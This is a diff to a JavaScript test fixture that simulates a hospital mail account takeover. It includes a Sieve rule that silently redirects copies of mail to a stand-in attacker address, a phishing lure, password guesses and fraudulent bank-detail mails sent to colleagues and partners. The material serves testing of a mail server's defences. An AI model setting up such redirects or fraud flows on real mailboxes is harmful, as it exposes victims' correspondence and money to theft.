@@ -6,6 +6,7 @@ import { MailServers } from './mail_servers.mjs';
 export const victim = 'marie@chu.test';
 export const password = 'Printemps2026';
 export const attacker = '198.51.100.23';
+export const outside = 30; // fraudulent mails to other houses, which stay in the queue
 export const people = { [victim]: password, 'paul@chu.test': 'paul-pw', 'direction@chu.test': 'd-pw', 'quarantine@chu.test': 'q-pw' };
 export const sieve = `require ["copy"];\r\n# filtre\r\nredirect :copy "collecte@evil.example";\r\n`;
 
@@ -36,6 +37,8 @@ export async function attackedMail() {
   must(local, 'the owner signs in');
   local.close();
   await mail.receive('faux-support@evil.example', victim, 'Votre messagerie expire', 'hook@evil.example');
+  for (const guess of ['Hiver2026', 'Automne2026', 'Ete2026', 'Marie2026', 'Printemps2025', 'Printemps26'])
+    must((await mail.signIn(victim, guess, attacker)) === null, 'a wrong guess');
   const stolen = await mail.signIn(victim, password, attacker);
   must(stolen, 'the attacker signs in');
   await stolen.imap('SELECT INBOX');
@@ -48,7 +51,7 @@ export async function attackedMail() {
   }
   filters.close();
   must((await mail.submit(victim, password, attacker, victim, ['paul@chu.test', 'direction@chu.test'], 'RIB', 'Nouveau compte')) === 250, 'fraud inside');
-  for (let i = 0; i < 3; i += 1) must((await mail.submit(victim, password, attacker, victim, [`client${i}@partner.example`], 'RIB')) === 250, 'fraud outside');
+  for (let i = 0; i < outside; i += 1) must((await mail.submit(victim, password, attacker, victim, [`client${i}@partner.example`], 'RIB')) === 250, 'fraud outside');
   await mail.receive('labo@partner.example', victim, 'Résultat', 'result@partner.example');
   for (let i = 0; i < 100 && !mail.log('dovecot.log').includes('collecte@evil.example'); i += 1) await sleep(100);
   must(mail.log('dovecot.log').includes('collecte@evil.example'), 'the redirect works');
